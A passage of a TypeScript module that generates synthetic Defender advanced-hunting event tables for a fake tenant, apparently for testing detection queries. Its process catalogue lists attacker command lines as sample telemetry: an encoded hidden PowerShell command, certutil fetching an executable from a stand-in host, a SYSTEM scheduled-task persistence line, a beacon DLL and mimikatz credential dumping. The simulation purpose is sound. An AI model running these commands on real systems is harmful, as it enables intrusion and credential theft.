/*
 * The fake tenant's advanced-hunting tables (reference entra-keyvault-kql.md §4.8): realistic rows
 * over the 30 days before `now`, drawn from the same directory as the incidents, built cheaply
 * (shared strings, one flat object per row) so that 200,000 rows take a second or two.
 */
import type { KqlTable } from '../kql/types.js';
import type { LegacyAlertWire } from '../tenant/legacy-wire.js';
import { BENIGN_DOMAINS, HUNTING_DETECTION_SOURCE, HUNTING_SERVICE_SOURCE, MALICIOUS_DOMAINS, NETBIOS_DOMAIN, TECHNIQUE_NAMES, TENANT_DOMAIN } from './catalog.js';
import { deviceInfoRow } from './device-info.js';
import { createDirectory, type DirectoryDevice, type DirectoryUser } from './directory.js';
import { HUNTING_TABLE_NAMES, HUNTING_TABLE_SCHEMAS, type HuntingTableName } from './hunting-schemas.js';
import { generateIncidents } from './incidents.js';
import { deriveSeed, prng, randomTools, type RandomTools } from './random.js';

export { HUNTING_TABLE_NAMES, HUNTING_TABLE_SCHEMAS, type HuntingTableName } from './hunting-schemas.js';

/** Options of {@link generateHuntingTables}. */
export interface GenerateHuntingTablesOptions {
  /** The same seed (and `now`, `rows`, `alerts`) gives the same rows. */
  seed: number;
  /** Rows across all tables. Default 10,000. */
  rows?: number;
  /** The tenant's present: rows are spread over the 30 days before it. */
  now: Date;
  /**
   * The tenant's alerts (for example `incidents.flatMap((i) => i.alerts)`): `AlertInfo` and
   * `AlertEvidence` then describe them, newest first, with the same `AlertId`s. Without them the
   * alerts of `generateIncidents` for the same seed are used.
   */
  alerts?: readonly LegacyAlertWire[];
}

/** One array of rows per hunting table. Every row has every column of its table. */
export type HuntingTables = Record<HuntingTableName, Record<string, unknown>[]>;

type Row = Record<string, unknown>;

const SECOND = 1_000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
const WINDOW = 30 * DAY;

/** How the rows are spread over the tables (alerts take what their evidence needs of their share). */
const SHARES: ReadonlyArray<readonly [HuntingTableName, number]> = [
  ['DeviceNetworkEvents', 0.28],
  ['DeviceFileEvents', 0.16],
  ['DeviceLogonEvents', 0.1],
  ['EmailEvents', 0.07],
  ['IdentityLogonEvents', 0.05],
  ['AlertInfo', 0.04], // AlertInfo and AlertEvidence together
  ['DeviceInfo', 0.02], // hourly reports of the fleet, one device after another
];

/**
 * Deterministic advanced-hunting tables: `rows` rows in all (default 10,000; 200,000 reaches the
 * service's limits), process and network events the most, timestamps over the 30 days before
 * `now`, device, account, process and domain names shared across tables and with
 * {@link generateIncidents}. `datetime` cells are epoch milliseconds with a 4-digit
 * sub-millisecond fraction (the KQL engine prints them with 7 digits); use
 * {@link HUNTING_TABLE_SCHEMAS} or {@link huntingKqlTables} for the column types.
 */
export function generateHuntingTables({ seed, rows = 10_000, now, alerts }: GenerateHuntingTablesOptions): HuntingTables {
  const total = Math.max(0, Math.floor(rows));
  const nowMs = now.getTime();
  const tools = randomTools(prng(deriveSeed(seed, 'hunting')));
  const directory = createDirectory(seed, nowMs);
  const world = buildWorld(tools, directory);
  const { int } = tools;
  const timestamp = (): number => Math.floor(nowMs - 1 - tools.random() * WINDOW) + int(0, 9_999) / 10_000;

  const counts = new Map<HuntingTableName, number>();
  let assigned = 0;
  for (const [name, share] of SHARES) {
    const n = Math.floor(total * share);
    counts.set(name, n);
    assigned += n;
  }
  const tables = Object.fromEntries(HUNTING_TABLE_NAMES.map((name) => [name, [] as Row[]])) as HuntingTables;

  const alertBudget = counts.get('AlertInfo') ?? 0;
  const alertRows = alertTables(alertBudget, alerts ?? syntheticAlerts(seed, alertBudget, now), nowMs, world);
  tables.AlertInfo = alertRows.info;
  tables.AlertEvidence = alertRows.evidence;
  // what the alerts leave of their share, and the rounding, go to process events
  const processCount = total - assigned + (alertBudget - alertRows.info.length - alertRows.evidence.length);

  const templates = Object.fromEntries(HUNTING_TABLE_NAMES.map((name) => [name, template(name)])) as Record<HuntingTableName, Row>;
  const fill = (name: HuntingTableName, count: number, make: (row: Row, ts: number) => void): void => {
    const out = tables[name];
    const base = templates[name];
    for (let i = 0; i < count; i++) {
      const row = { ...base };
      make(row, timestamp());
      out.push(row);
    }
  };
  fill('DeviceProcessEvents', processCount, (row, ts) => processEvent(tools, world, row, ts));
  fill('DeviceNetworkEvents', counts.get('DeviceNetworkEvents') ?? 0, (row, ts) => networkEvent(tools, world, row, ts));
  fill('DeviceFileEvents', counts.get('DeviceFileEvents') ?? 0, (row, ts) => fileEvent(tools, world, row, ts));
  fill('DeviceLogonEvents', counts.get('DeviceLogonEvents') ?? 0, (row, ts) => logonEvent(tools, world, row, ts));
  fill('EmailEvents', counts.get('EmailEvents') ?? 0, (row, ts) => emailEvent(tools, world, row, ts));
  fill('IdentityLogonEvents', counts.get('IdentityLogonEvents') ?? 0, (row, ts) => identityLogonEvent(tools, world, row, ts));
  const fleet = directory.devices;
  for (let i = 0; i < (counts.get('DeviceInfo') ?? 0) && fleet.length > 0; i++) {
    tables.DeviceInfo.push(deviceInfoRow(directory, fleet[i % fleet.length] as DirectoryDevice, timestamp(), world.nextReportId(), false));
  }
  return tables;
}

/** The tables as the KQL engine takes them: each with its documented columns. */
export function huntingKqlTables(tables: HuntingTables): Record<HuntingTableName, KqlTable> {
  return Object.fromEntries(
    HUNTING_TABLE_NAMES.map((name) => [name, { columns: [...HUNTING_TABLE_SCHEMAS[name]], rows: tables[name] }]),
  ) as Record<HuntingTableName, KqlTable>;
}

/** A row with every column of `name`: strings empty, everything else null (as the service returns unset cells). */
function template(name: HuntingTableName): Row {
  const row: Row = {};
  for (const column of HUNTING_TABLE_SCHEMAS[name]) row[column.name] = column.type === 'string' ? '' : null;
  return row;
}

// ---------------------------------------------------------------- the world rows are drawn from

interface Account {
  domain: string;
  name: string;
  sid: string;
  upn: string;
  objectId: string;
}

interface Image {
  file: string;
  folder: string;
  /** `folder\file`. */
  path: string;
  company: string;
  product: string;
  version: string;
  description: string;
  size: number;
  runsAs: 'system' | 'user' | 'service';
  commandLines: readonly string[];
  parents: readonly string[];
  weight: number;
  sha1: string;
  sha256: string;
  md5: string;
  signer: string;
}

interface Machine {
  device: DirectoryDevice;
  owner: Account;
}

interface World {
  machines: Machine[];
  workstations: Machine[];
  people: Account[];
  users: DirectoryUser[];
  system: Account;
  services: Account[];
  images: Image[];
  imageByFile: Map<string, Image>;
  /** Cumulative weights of `images`, for weighted picks. */
  imageWeights: number[];
  networkImages: Image[];
  fileImages: Image[];
  endpoints: Array<{ url: string; ip: string; malicious: boolean }>;
  maliciousEndpoints: Array<{ url: string; ip: string; malicious: boolean }>;
  /** Event `ReportId`s: increasing, per generation. */
  nextReportId: () => number;
  files: Array<{ name: string; sha1: string; sha256: string; md5: string; size: number; extension: string }>;
  domainController: { deviceName: string; ip: string };
  publicIps: string[];
}

const WIN = 'C:\\Windows\\System32';
const MS = 'Microsoft Corporation';
const WINDOWS = 'Microsoft® Windows® Operating System';

// file, folder, company, product, description, size, runs as, command lines, parents, weight
const IMAGES: ReadonlyArray<[string, string, string, string, string, number, Image['runsAs'], readonly string[], readonly string[], number]> = [
  ['svchost.exe', WIN, MS, WINDOWS, 'Host Process for Windows Services', 57_360, 'system', ['svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe -k LocalService -p -s EventLog', 'svchost.exe -k NetworkService -p -s Dnscache', 'svchost.exe -k wsappx -p -s AppXSvc'], ['services.exe'], 14],
  ['services.exe', WIN, MS, WINDOWS, 'Services and Controller app', 712_024, 'system', ['services.exe'], ['wininit.exe'], 0],
  ['wininit.exe', WIN, MS, WINDOWS, 'Windows Start-Up Application', 446_976, 'system', ['wininit.exe'], ['smss.exe'], 0],
  ['smss.exe', WIN, MS, WINDOWS, 'Windows Session Manager', 155_648, 'system', ['\\SystemRoot\\System32\\smss.exe'], ['smss.exe'], 0],
  ['userinit.exe', WIN, MS, WINDOWS, 'Userinit Logon Application', 36_864, 'user', ['userinit.exe'], ['winlogon.exe'], 0],
  ['winlogon.exe', WIN, MS, WINDOWS, 'Windows Logon Application', 904_704, 'system', ['winlogon.exe'], ['smss.exe'], 0],
  ['lsass.exe', WIN, MS, WINDOWS, 'Local Security Authority Process', 86_984, 'system', ['C:\\Windows\\system32\\lsass.exe'], ['wininit.exe'], 0],
  ['explorer.exe', 'C:\\Windows', MS, WINDOWS, 'Windows Explorer', 5_529_800, 'user', ['C:\\Windows\\Explorer.EXE'], ['userinit.exe'], 3],
  ['cmd.exe', WIN, MS, WINDOWS, 'Windows Command Processor', 323_584, 'user', ['"cmd.exe" /c ipconfig /all', 'cmd.exe /c whoami', '"cmd.exe" /c dir \\\\srv-file01\\shares', 'cmd.exe /c "C:\\Scripts\\logon.bat"'], ['explorer.exe', 'powershell.exe'], 6],
  ['powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', MS, WINDOWS, 'Windows PowerShell', 450_560, 'user', ['powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1', 'powershell.exe -Command Get-Process', '"powershell.exe" -NoLogo', 'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='], ['explorer.exe', 'cmd.exe', 'svchost.exe'], 5],
  ['conhost.exe', WIN, MS, WINDOWS, 'Console Window Host', 868_864, 'user', ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'], ['cmd.exe', 'powershell.exe'], 7],
  ['chrome.exe', 'C:\\Program Files\\Google\\Chrome\\Application', 'Google LLC', 'Google Chrome', 'Google Chrome', 3_120_416, 'user', ['"chrome.exe" --type=renderer --lang=en-US', '"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', '"chrome.exe"'], ['explorer.exe', 'chrome.exe'], 8],
  ['msedge.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application', MS, 'Microsoft Edge', 'Microsoft Edge', 4_060_504, 'user', ['"msedge.exe" --type=renderer', '"msedge.exe" --single-argument https://contoso.sharepoint.com/', '"msedge.exe"'], ['explorer.exe', 'msedge.exe'], 8],
  ['OUTLOOK.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16', MS, 'Microsoft Outlook', 'Microsoft Outlook', 43_156_800, 'user', ['"OUTLOOK.EXE"', '"OUTLOOK.EXE" /recycle'], ['explorer.exe'], 3],
  ['WINWORD.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16', MS, 'Microsoft Office', 'Microsoft Word', 1_935_480, 'user', ['"WINWORD.EXE" /n "C:\\Users\\Public\\Documents\\report.docx"', '"WINWORD.EXE" -Embedding'], ['explorer.exe', 'OUTLOOK.EXE'], 3],
  ['ms-teams.exe', 'C:\\Program Files\\WindowsApps\\MSTeams_24004.1403.2634.2418_x64__8wekyb3d8bbwe', MS, 'Microsoft Teams', 'Microsoft Teams', 2_481_456, 'user', ['"ms-teams.exe"', '"ms-teams.exe" msteams:system-initiated'], ['explorer.exe'], 4],
  ['MsMpEng.exe', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0', MS, WINDOWS, 'Antimalware Service Executable', 133_432, 'system', ['"MsMpEng.exe"'], ['services.exe'], 2],
  ['MsSense.exe', 'C:\\Program Files\\Windows Defender Advanced Threat Protection', MS, WINDOWS, 'Windows Defender Advanced Threat Protection Service Executable', 6_011_440, 'system', ['"MsSense.exe"'], ['services.exe'], 2],
  ['taskhostw.exe', WIN, MS, WINDOWS, 'Host Process for Windows Tasks', 104_224, 'user', ['taskhostw.exe', 'taskhostw.exe KEYROAMING'], ['svchost.exe'], 4],
  ['SearchProtocolHost.exe', WIN, MS, WINDOWS, 'Microsoft Windows Search Protocol Host', 434_176, 'system', ['"SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1'], ['svchost.exe'], 4],
  ['rundll32.exe', WIN, MS, WINDOWS, 'Windows host process (Rundll32)', 71_680, 'user', ['rundll32.exe C:\\Windows\\system32\\shell32.dll,Control_RunDLL', 'rundll32.exe C:\\Users\\Public\\beacon.dll,StartW'], ['explorer.exe', 'svchost.exe'], 2],
  ['schtasks.exe', WIN, MS, WINDOWS, 'Task Scheduler Configuration Tool', 235_008, 'user', ['schtasks.exe /query /fo LIST', 'schtasks.exe /create /tn "OneDrive Update" /tr C:\\ProgramData\\upd.exe /sc onlogon /ru SYSTEM'], ['cmd.exe', 'powershell.exe'], 1],
  ['whoami.exe', WIN, MS, WINDOWS, 'whoami - displays logged on user information', 76_288, 'user', ['whoami.exe /all', 'whoami.exe'], ['cmd.exe', 'powershell.exe'], 1],
  ['net.exe', WIN, MS, WINDOWS, 'Net Command', 57_344, 'user', ['net.exe group "Domain Admins" /domain', 'net.exe use Z: \\\\srv-file01\\shares'], ['cmd.exe', 'powershell.exe'], 1],
  ['certutil.exe', WIN, MS, WINDOWS, 'CertUtil.exe', 1_584_640, 'user', ['certutil.exe -urlcache -split -f https://cdn-update.example/upd.exe C:\\ProgramData\\upd.exe', 'certutil.exe -verify cert.cer'], ['cmd.exe'], 0.3],
  ['sqlservr.exe', 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn', MS, 'Microsoft SQL Server', 'SQL Server Windows NT - 64 Bit', 480_328, 'service', ['"sqlservr.exe" -sMSSQLSERVER'], ['services.exe'], 1],
  ['w3wp.exe', 'C:\\Windows\\System32\\inetsrv', MS, 'Internet Information Services', 'IIS Worker Process', 29_232, 'service', ['c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll"'], ['svchost.exe'], 1],
  ['mimikatz.exe', 'C:\\Users\\Public\\Downloads', 'gentilkiwi (Benjamin DELPY)', 'mimikatz', 'mimikatz for Windows', 1_250_056, 'user', ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'], ['cmd.exe', 'powershell.exe'], 0.05],
];
const NETWORK_IMAGES = ['svchost.exe', 'chrome.exe', 'msedge.exe', 'OUTLOOK.EXE', 'ms-teams.exe', 'MsSense.exe', 'MsMpEng.exe', 'powershell.exe', 'lsass.exe'];
const FILE_IMAGES = ['explorer.exe', 'chrome.exe', 'msedge.exe', 'OUTLOOK.EXE', 'WINWORD.EXE', 'svchost.exe', 'MsMpEng.exe', 'powershell.exe', 'ms-teams.exe'];
const FILE_NAMES = ['Q3 forecast', 'invoice', 'meeting notes', 'budget 2026', 'onboarding', 'report', 'setup', 'contract', 'photo', 'backup', 'roadmap', 'payroll'];
const EXTENSIONS = [['docx', 40_000, 900_000], ['xlsx', 20_000, 2_000_000], ['pdf', 50_000, 5_000_000], ['pptx', 200_000, 9_000_000], ['zip', 100_000, 50_000_000], ['exe', 80_000, 90_000_000], ['msi', 1_000_000, 90_000_000], ['tmp', 1_000, 500_000], ['png', 10_000, 3_000_000], ['dll', 50_000, 4_000_000]] as const;

function buildWorld({ hex, int, pick }: RandomTools, directory: ReturnType<typeof createDirectory>): World {
  const account = (user: DirectoryUser): Account => ({ domain: NETBIOS_DOMAIN.toLowerCase(), name: user.accountName, sid: user.sid, upn: user.upn, objectId: user.objectId });
  const people = directory.users.filter((u) => !u.service).map(account);
  const services = directory.users.filter((u) => u.service).map(account);
  const images: Image[] = IMAGES.map(([file, folder, company, product, description, size, runsAs, commandLines, parents, weight]) => ({
    file, folder, path: `${folder}\\${file}`, company, product, version: `10.0.${int(17_000, 22_631)}.${int(1, 4_000)}`, description, size, runsAs,
    commandLines, parents, weight, sha1: hex(40), sha256: hex(64), md5: hex(32),
    signer: company === MS ? (folder.startsWith(WIN) || folder === 'C:\\Windows' ? 'OsVendor' : 'Microsoft') : company.startsWith('gentilkiwi') ? 'Unknown' : 'ThirdParty',
  }));
  const imageByFile = new Map(images.map((image) => [image.file, image]));
  let sum = 0;
  const imageWeights = images.map((image) => (sum += image.weight));
  const machines = directory.devices.map((device) => ({ device, owner: people[device.ownerIndex] ?? (people[0] as Account) }));
  const endpoints = [
    ...BENIGN_DOMAINS.map((url) => ({ url, ip: `${pick([13, 20, 40, 52, 104, 142, 151])}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`, malicious: false })),
    ...MALICIOUS_DOMAINS.map((url) => ({ url, ip: `${pick([45, 91, 185, 194])}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`, malicious: true })),
  ];
  let reportId = int(1_000, 90_000);
  const files = Array.from({ length: 300 }, () => {
    const [extension, min, max] = pick(EXTENSIONS);
    return { name: `${pick(FILE_NAMES)}${pick(['', ' (1)', '_final', '-v2', `_${int(100, 999)}`])}.${extension}`, sha1: hex(40), sha256: hex(64), md5: hex(32), size: int(min, max), extension };
  });
  return {
    machines,
    workstations: machines.filter((m) => !m.device.server),
    people,
    users: directory.users,
    system: { domain: 'nt authority', name: 'system', sid: 'S-1-5-18', upn: '', objectId: '' },
    services,
    images,
    imageByFile,
    imageWeights,
    networkImages: NETWORK_IMAGES.map((file) => imageByFile.get(file) as Image),
    fileImages: FILE_IMAGES.map((file) => imageByFile.get(file) as Image),
    endpoints,
    maliciousEndpoints: endpoints.filter((e) => e.malicious),
    nextReportId: () => ++reportId,
    files,
    domainController: directory.domainController,
    publicIps: Array.from({ length: 60 }, () => `${pick([24, 67, 73, 86, 98, 109, 176, 203])}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`),
  };
}

function pickImage({ random }: RandomTools, world: World): Image {
  const target = random() * (world.imageWeights[world.imageWeights.length - 1] ?? 0);
  let lo = 0;
  let hi = world.imageWeights.length - 1;
  while (lo < hi) {
    const mid = (lo + hi) >> 1;
    if ((world.imageWeights[mid] ?? 0) > target) hi = mid;
    else lo = mid + 1;
  }
  return world.images[lo] as Image;
}

function accountFor({ random, pick }: RandomTools, world: World, machine: Machine, image: Image): Account {
  if (image.runsAs === 'system') return world.system;
  if (image.runsAs === 'service' || machine.device.server) return random() < 0.7 ? pick(world.services) : world.system;
  return random() < 0.85 ? machine.owner : pick(world.people);
}

/** Sets the `InitiatingProcess*` columns all device tables share. */
function setInitiating(tools: RandomTools, row: Row, image: Image, account: Account, ts: number): void {
  const { int, pick } = tools;
  const created = Math.floor(ts) - int(SECOND, 6 * HOUR);
  row.InitiatingProcessAccountDomain = account.domain;
  row.InitiatingProcessAccountName = account.name;
  row.InitiatingProcessAccountSid = account.sid;
  row.InitiatingProcessAccountUpn = account.upn;
  row.InitiatingProcessAccountObjectId = account.objectId;
  row.InitiatingProcessIntegrityLevel = image.runsAs === 'system' ? 'System' : 'Medium';
  row.InitiatingProcessTokenElevation = image.runsAs === 'system' ? 'TokenElevationTypeDefault' : 'TokenElevationTypeLimited';
  row.InitiatingProcessSHA1 = image.sha1;
  row.InitiatingProcessSHA256 = image.sha256;
  row.InitiatingProcessMD5 = image.md5;
  row.InitiatingProcessFileName = image.file;
  row.InitiatingProcessFileSize = image.size;
  row.InitiatingProcessVersionInfoCompanyName = image.company;
  row.InitiatingProcessVersionInfoProductName = image.product;
  row.InitiatingProcessVersionInfoProductVersion = image.version;
  row.InitiatingProcessVersionInfoInternalFileName = image.file;
  row.InitiatingProcessVersionInfoOriginalFileName = image.file;
  row.InitiatingProcessVersionInfoFileDescription = image.description;
  row.InitiatingProcessId = int(4, 40_000);
  row.InitiatingProcessCommandLine = pick(image.commandLines);
  row.InitiatingProcessCreationTime = created;
  row.InitiatingProcessFolderPath = image.path;
  row.InitiatingProcessParentId = int(4, 20_000);
  row.InitiatingProcessParentFileName = pick(image.parents);
  row.InitiatingProcessParentCreationTime = created - int(SECOND, DAY);
  row.InitiatingProcessSessionId = image.runsAs === 'user' ? int(1, 3) : 0;
  row.IsInitiatingProcessRemoteSession = false;
  row.InitiatingProcessUniqueId = String(int(1_000_000, 99_999_999));
}

function setDevice(row: Row, machine: Machine): void {
  row.DeviceId = machine.device.deviceId;
  row.DeviceName = machine.device.deviceName;
}

// ---------------------------------------------------------------- device tables

function processEvent(tools: RandomTools, world: World, row: Row, ts: number): void {
  const { random, int, pick } = tools;
  const machine = pick(world.machines);
  const image = pickImage(tools, world);
  const parent = world.imageByFile.get(pick(image.parents)) ?? image;
  const account = accountFor(tools, world, machine, image);
  setDevice(row, machine);
  row.Timestamp = ts;
  row.ActionType = 'ProcessCreated';
  row.FileName = image.file;
  row.FolderPath = image.path;
  row.SHA1 = image.sha1;
  row.SHA256 = image.sha256;
  row.MD5 = image.md5;
  row.FileSize = image.size;
  row.ProcessVersionInfoCompanyName = image.company;
  row.ProcessVersionInfoProductName = image.product;
  row.ProcessVersionInfoProductVersion = image.version;
  row.ProcessVersionInfoInternalFileName = image.file;
  row.ProcessVersionInfoOriginalFileName = image.file;
  row.ProcessVersionInfoFileDescription = image.description;
  row.ProcessId = int(4, 40_000);
  row.ProcessCommandLine = pick(image.commandLines);
  row.ProcessIntegrityLevel = image.runsAs === 'system' ? 'System' : random() < 0.1 ? 'High' : 'Medium';
  row.ProcessTokenElevation = image.runsAs === 'system' ? 'TokenElevationTypeDefault' : 'TokenElevationTypeLimited';
  row.ProcessCreationTime = ts;
  row.AccountDomain = account.domain;
  row.AccountName = account.name;
  row.AccountSid = account.sid;
  row.AccountUpn = account.upn;
  row.AccountObjectId = account.objectId;
  row.LogonId = int(100_000, 9_999_999);
  setInitiating(tools, row, parent, parent.runsAs === 'user' ? account : accountFor(tools, world, machine, parent), ts);
  row.InitiatingProcessLogonId = row.LogonId;
  row.InitiatingProcessSignerType = parent.signer;
  row.InitiatingProcessSignatureStatus = parent.signer === 'Unknown' ? 'Unsigned' : 'Valid';
  row.ReportId = world.nextReportId();
  row.CreatedProcessSessionId = row.InitiatingProcessSessionId;
  row.IsProcessRemoteSession = false;
  row.ProcessUniqueId = String(int(1_000_000, 99_999_999));
}

const NETWORK_ACTIONS = ['ConnectionSuccess', 'ConnectionSuccess', 'ConnectionSuccess', 'ConnectionSuccess', 'ConnectionSuccess', 'ConnectionSuccess', 'ConnectionFailed', 'InboundConnectionAccepted', 'ConnectionAttempt', 'ListeningConnectionCreated'] as const;

function networkEvent(tools: RandomTools, world: World, row: Row, ts: number): void {
  const { random, int, pick } = tools;
  const machine = pick(world.machines);
  const image = pick(world.networkImages);
  setDevice(row, machine);
  row.Timestamp = ts;
  const action = pick(NETWORK_ACTIONS);
  row.ActionType = action;
  row.LocalIP = machine.device.localIp;
  row.LocalIPType = 'Private';
  if (random() < 0.2 || action === 'InboundConnectionAccepted') {
    const peer = random() < 0.5 ? world.domainController : { ip: pick(world.machines).device.localIp };
    row.RemoteIP = peer.ip;
    row.RemoteIPType = 'Private';
    row.RemotePort = pick([445, 135, 389, 88, 3389, 5985]);
    row.LocalPort = int(49_152, 65_535);
    row.Protocol = 'Tcp';
  } else {
    // rare look-alike domains: the C2 and phishing traffic behind some incidents
    const endpoint = random() < 0.02 ? pick(world.maliciousEndpoints) : (world.endpoints[int(0, BENIGN_DOMAINS.length - 1)] as World['endpoints'][number]);
    row.RemoteIP = endpoint.ip;
    row.RemoteUrl = endpoint.url;
    row.RemoteIPType = 'Public';
    row.RemotePort = random() < 0.85 ? 443 : pick([80, 53, 8080]);
    row.LocalPort = int(49_152, 65_535);
    row.Protocol = row.RemotePort === 53 ? 'Udp' : 'Tcp';
  }
  setInitiating(tools, row, image, accountFor(tools, world, machine, image), ts);
  row.ReportId = world.nextReportId();
}

const FILE_ACTIONS = ['FileCreated', 'FileCreated', 'FileCreated', 'FileCreated', 'FileCreated', 'FileModified', 'FileModified', 'FileModified', 'FileRenamed', 'FileDeleted'] as const;

function fileEvent(tools: RandomTools, world: World, row: Row, ts: number): void {
  const { random, int, pick } = tools;
  const machine = pick(world.machines);
  const image = pick(world.fileImages);
  const account = accountFor(tools, world, machine, image);
  const file = pick(world.files);
  const folder = account === world.system || !account.upn ? 'C:\\Windows\\Temp' : `C:\\Users\\${account.name}\\${pick(['Documents', 'Downloads', 'Desktop', 'AppData\\Local\\Temp'])}`;
  setDevice(row, machine);
  row.Timestamp = ts;
  const action = pick(FILE_ACTIONS);
  row.ActionType = action;
  row.FileName = file.name;
  row.FolderPath = `${folder}\\${file.name}`;
  row.SHA1 = file.sha1;
  row.SHA256 = file.sha256;
  row.MD5 = file.md5;
  row.FileSize = file.size;
  if (image.file === 'chrome.exe' || image.file === 'msedge.exe') {
    const endpoint = pick(world.endpoints);
    row.FileOriginUrl = `https://${endpoint.url}/download/${file.name}`;
    row.FileOriginReferrerUrl = `https://${endpoint.url}/`;
    row.FileOriginIP = endpoint.ip;
  }
  if (action === 'FileRenamed') {
    row.PreviousFileName = `${file.name}.tmp`;
    row.PreviousFolderPath = folder;
  }
  setInitiating(tools, row, image, account, ts);
  if (random() < 0.1) {
    row.RequestProtocol = 'SMB';
    row.RequestSourceIP = pick(world.machines).device.localIp;
    row.RequestSourcePort = int(49_152, 65_535);
    row.RequestAccountName = account.name;
    row.RequestAccountDomain = account.domain;
    row.RequestAccountSid = account.sid;
    row.ShareName = pick(['shares', 'finance', 'IPC$']);
  } else {
    row.RequestProtocol = 'Local';
  }
  row.IsAzureInfoProtectionApplied = false;
  row.ReportId = world.nextReportId();
}

const LOGON_TYPES = ['Interactive', 'Interactive', 'RemoteInteractive', 'Network', 'Network', 'Network', 'Batch', 'Service', 'Unlock', 'CachedInteractive'] as const;
const FAILURE_REASONS = ['InvalidUserNameOrPassword', 'InvalidUserNameOrPassword', 'UnknownUser', 'AccountLocked', 'WrongPassword'] as const;

function logonEvent(tools: RandomTools, world: World, row: Row, ts: number): void {
  const { random, int, pick } = tools;
  const machine = pick(world.machines);
  const logonType = pick(LOGON_TYPES);
  const service = logonType === 'Service' || logonType === 'Batch';
  const account = service ? pick([world.system, ...world.services]) : random() < 0.8 ? machine.owner : pick(world.people);
  const roll = random();
  const action = roll < 0.82 ? 'LogonSuccess' : roll < 0.97 ? 'LogonFailed' : 'LogonAttempted';
  setDevice(row, machine);
  row.Timestamp = ts;
  row.ActionType = action;
  row.LogonType = logonType;
  row.AccountDomain = account.domain;
  row.AccountName = account.name;
  row.AccountSid = account.sid;
  row.Protocol = logonType === 'Network' ? pick(['Kerberos', 'NTLM', 'Negotiate']) : 'Negotiate';
  if (action === 'LogonFailed') row.FailureReason = pick(FAILURE_REASONS);
  row.IsLocalAdmin = account === world.system || random() < 0.1;
  row.LogonId = int(100_000, 9_999_999);
  if (logonType === 'Network' || logonType === 'RemoteInteractive') {
    const remote = random() < 0.9 ? pick(world.machines).device : null;
    row.RemoteDeviceName = remote ? remote.deviceName.split('.')[0]?.toUpperCase() ?? '' : '';
    row.RemoteIP = remote ? remote.localIp : pick(world.publicIps);
    row.RemoteIPType = remote ? 'Private' : 'Public';
    row.RemotePort = int(49_152, 65_535);
  }
  const image = world.imageByFile.get(logonType === 'Interactive' || logonType === 'Unlock' ? 'winlogon.exe' : logonType === 'Service' ? 'services.exe' : 'lsass.exe') as Image;
  setInitiating(tools, row, image, world.system, ts);
  row.ReportId = world.nextReportId();
}

// ---------------------------------------------------------------- email and identity

const SUBJECTS = ['Weekly sync', 'RE: Q3 forecast', 'Invoice #20931 overdue', 'Your package is on its way', 'Action required: password expires today', 'Lunch on Friday?', 'FW: contract draft', 'Team offsite agenda', 'Shared document: Q3 bonus plan', 'Voicemail received (0:42)', 'Newsletter: March edition', 'Security awareness training'] as const;
const EXTERNAL_SENDERS = ['fabrikam.com', 'tailspintoys.com', 'northwindtraders.com', 'adatum.com', 'newsletter.example', 'shipping-notice.example'] as const;
const PASS_AUTH = '{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}';
const FAIL_AUTH = '{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}';

function emailEvent(tools: RandomTools, world: World, row: Row, ts: number): void {
  const { random, int, pick, guid, hex } = tools;
  const recipient = pick(world.people);
  const direction = random();
  const threat = random();
  const threatType = threat < 0.03 ? 'Phish' : threat < 0.045 ? 'Malware' : threat < 0.12 ? 'Spam' : '';
  let senderAddress: string;
  let senderDomain: string;
  let senderName: string;
  if (direction < 0.7 || threatType) {
    senderDomain = threatType === 'Phish' || threatType === 'Malware' ? pick(MALICIOUS_DOMAINS) : pick(EXTERNAL_SENDERS);
    senderName = pick(['Billing', 'IT Support', 'Notifications', 'Sales', 'Jane Cooper', 'Wade Warren']);
    senderAddress = `${senderName.toLowerCase().replace(/\s+/g, '.')}@${senderDomain}`;
    row.EmailDirection = 'Inbound';
    row.SenderIPv4 = pick(world.publicIps);
  } else {
    const sender = pick(world.people);
    senderDomain = TENANT_DOMAIN;
    senderName = sender.name;
    senderAddress = sender.upn;
    row.SenderObjectId = sender.objectId;
    row.EmailDirection = direction < 0.9 ? 'Intra-org' : 'Outbound';
    row.SenderIPv4 = '10.0.1.25';
  }
  const networkMessageId = guid();
  row.Timestamp = ts;
  row.NetworkMessageId = networkMessageId;
  row.InternetMessageId = `<${hex(16).toUpperCase()}@${senderDomain}>`;
  row.SenderMailFromAddress = senderAddress;
  row.SenderFromAddress = senderAddress;
  row.SenderDisplayName = senderName;
  row.SenderMailFromDomain = senderDomain;
  row.SenderFromDomain = senderDomain;
  row.RecipientEmailAddress = row.EmailDirection === 'Outbound' ? `contact@${pick(EXTERNAL_SENDERS)}` : recipient.upn;
  row.RecipientObjectId = row.EmailDirection === 'Outbound' ? '' : recipient.objectId;
  row.RecipientDomain = row.EmailDirection === 'Outbound' ? String(row.RecipientEmailAddress).split('@')[1] : TENANT_DOMAIN;
  row.Subject = threatType === 'Phish' ? pick(['Action required: password expires today', 'Shared document: Q3 bonus plan', 'Voicemail received (0:42)']) : pick(SUBJECTS);
  row.EmailClusterId = int(1_000_000_000, 2_000_000_000);
  row.ThreatTypes = threatType;
  const blocked = threatType === 'Malware' || (threatType === 'Phish' && random() < 0.6);
